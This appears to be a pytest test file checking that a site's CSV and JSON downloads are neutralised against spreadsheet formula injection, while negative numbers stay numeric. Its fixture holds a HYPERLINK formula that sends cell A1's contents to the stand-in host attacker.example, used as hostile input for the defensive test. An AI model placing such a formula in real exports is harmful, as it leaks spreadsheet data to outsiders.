"""Issue 11 item 2: downloads are safe to open in a spreadsheet; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json

import pytest

from migration_profiles.render.spreadsheet_safe import csv_text, neutralise_formula, plain_number

from .output_site import YORK, build_site, downloads, rename_area

FORMULA_NAME = '=HYPERLINK("http://attacker.example/?d="&A1,"York")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-"])
def test_text_that_starts_like_a_formula_is_neutralised(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", [3.5, -4.0, 0, 12, None, "York", "St Helens", "1,000"])
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert neutralise_formula(value) == value


def test_negative_numbers_stay_numbers_in_csv():
    text = csv_text(["name", "value"], [["-minus", -4.0], ["York", 3.8000000000000003], ["Leeds", -0.0]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'-minus", "-4"] and rows[2] == ["York", "3.8"] and rows[3] == ["Leeds", "0"]
    assert plain_number(float("nan")) is None


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    root = tmp_path_factory.mktemp("formula-site")
    incoming = downloads(root)
    rename_area(incoming, YORK, FORMULA_NAME)
    return build_site(root, incoming)


def test_the_area_json_keeps_the_name_as_data_and_the_build_writes_no_spreadsheet(site):
    """The area's spreadsheet and CSV are made in the reader's browser from its page and JSON, each text
    cell guarded there (tests/test_browser_explore.py opens one made from a name like this). The JSON
    holds the name as it is, a string, and the figures as numbers."""
    assert not list(site.site.rglob("*.xlsx"))
    data = json.loads((site.site / "data" / "areas" / f"{YORK}.json").read_text())
    assert data["area"]["name"] == FORMULA_NAME
    values = [row[1] for rows in data["figures"].values() for row in rows if row[1] is not None]
    assert values and all(isinstance(v, int | float) for v in values) and any(values)


def test_every_csv_the_site_offers_has_no_cell_starting_like_a_formula(site):
    files = list(site.site.rglob("*.csv"))
    assert files
    for path in files:
        for row in csv.reader(io.StringIO(path.read_text())):
            for cell in row:
                if cell[:1] in ("=", "+", "@", "\t", "\r"):
                    pytest.fail(f"{path.name}: cell {cell!r} starts like a formula")
                if cell.startswith("-"):
                    float(cell)  # a negative number is the only cell that may start with '-'
